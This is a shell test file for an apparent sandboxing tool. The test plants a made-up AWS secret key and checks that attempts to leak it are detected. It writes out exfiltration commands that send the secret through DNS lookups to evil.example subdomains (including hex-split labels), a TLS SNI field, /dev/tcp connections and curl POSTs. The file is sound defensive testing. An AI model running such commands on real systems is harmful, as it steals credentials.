#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# bait_is_seen - a made-up value that leaves is told, by name, and fails the run.
# shellcheck source=../lib.sh
. "$(dirname "$0")/../lib.sh"

# Of each bait: does the script end with 0 and the run with 123, and was it told
# of this place and no other?
caught()
{
	is "$1: the run failed" 123 "$rc"
	has_event "$1: told" "$E" canary '"variable":"AWS_SECRET_ACCESS_KEY"'
	has_event "$1: where" "$E" canary "\"reason\":\"$2\""
	is "$1: once" 1 "$(grep -c '"event":"canary"' "$E")"
	has "$1: for people" "$T/stderr" \
		'the made-up value of AWS_SECRET_ACCESS_KEY was'
	has_not "$1: and is offered no line" "$T/stderr" 'add to a profile'
}

quiet()
{
	is "$1" 0 "$rc"
	is "$1: nothing told" 0 "$(grep -c '"event":"canary"' "$E")"
}

run()
{
	rm -f "$E"
	cordon --evidence "$E" -- bash -c "$1"
}

body()
{
	E=$OUT/evidence
	AWS_SECRET_ACCESS_KEY=the-real-one-is-never-inside
	export AWS_SECRET_ACCESS_KEY
	bait='canary = AWS_SECRET_ACCESS_KEY DATABASE_URL'
	upstream
	profile <<-EOT
	[env]
	$bait
	[network]
	allow = tls://good.example
	allow = tcp://plain.example:7000
	allow = http://web.example:8080/** POST plain
	connect-to = good.example:443 -> 127.0.0.1:$PORT
	connect-to = plain.example:7000 -> 127.0.0.1:$PORT
	connect-to = web.example:8080 -> 127.0.0.1:$PORT
	EOT
	# shellcheck disable=SC2016 # for the shell inside
	k='$AWS_SECRET_ACCESS_KEY'

	run "printf %s \"$k\" | wc -c"
	quiet 'who only looks at it'
	is 'has something in its form' 40 "$out"
	run "echo \"$k\""
	has_not 'the real one is nowhere' "$T/stdout" the-real-one
	caught 'in the output' output
	run "printf x%s \"$k\" | base64 -w 0 >&2"
	caught 'on standard error, in base64' output
	run "echo \"$k\" | rev"
	caught 'in the output, reversed' output
	run "printf %s \"$k\" | od -An -v -tx1 | tr -d '\\n' |
		sed 's/ /\\\\x/g'"
	caught 'in the output, in bytes as a shell quotes them' output

	run "getent hosts \"$k.evil.example\" >/dev/null; true"
	caught 'in a name' name
	run "getent hosts \"\$(printf %s \"$k\" | tr A-Z a-z).evil.example\" >/dev/null; true"
	caught 'in a name in small letters' name
	run "x=\$(printf %s \"$k\" | od -An -v -tx1 | tr -d ' \\n')
		getent hosts \"\$(echo \"\$x\" | cut -c1-50).\$(echo \"\$x\" |
			cut -c51-).evil.example\" >/dev/null; true"
	caught 'in a name, in two labels of hexadecimal' name
	run 'getent hosts harmless.evil.example >/dev/null; true'
	quiet 'another name'

	run "./probe hello good.example 443 \"sni=$k\" >/dev/null; true"
	caught 'in a greeting' greeting
	run './probe hello good.example 443 sni=good.example >/dev/null; true'
	quiet 'another greeting'

	to='/dev/tcp/plain.example/7000'
	run "printf 'a%sb' \"$k\" >$to"
	caught 'in a connection' connection
	run "printf 'x%s' \"$k\" | base64 -w 0 >$to"
	caught 'in a connection, in base64' connection
	run "echo harmless >$to"
	quiet 'another connection'

	run "curl -s -m 1 -d \"k=$k\" http://web.example:8080/ >/dev/null; true"
	caught 'in a body' request
	run "curl -s -m 1 -d x -H \"X-Y: $k\" http://web.example:8080/ >/dev/null; true"
	caught 'in a field' request

	run "getent hosts \"$k.evil.example\"; exit 7"
	is 'a command that fails by itself keeps its number' 7 "$rc"
	run "getent hosts \"\$(printf %s \"\${DATABASE_URL#*app:}\" |
		cut -d@ -f1).evil.example\" >/dev/null; true"
	has_event 'the password alone of a URL' "$E" canary \
		'"variable":"DATABASE_URL"'
	stop upstream
	OPTIONS=
}
for_each_who body
plan
